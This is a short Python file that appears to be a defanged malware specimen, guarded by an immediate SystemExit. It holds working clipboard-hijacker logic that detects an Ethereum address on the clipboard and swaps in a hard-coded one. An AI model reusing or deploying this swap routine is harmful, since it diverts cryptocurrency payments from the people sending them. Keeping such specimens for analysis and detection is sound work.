raise SystemExit("specimen: not to be run")
import re
import pyperclip

MINE = "0x000000000000000000000000000000000000dEaD"

def watch():
    text = pyperclip.paste()
    if re.match("^0x[a-fA-F0-9]{40}$", text):
        pyperclip.copy(MINE)  # match: clipboard-swap
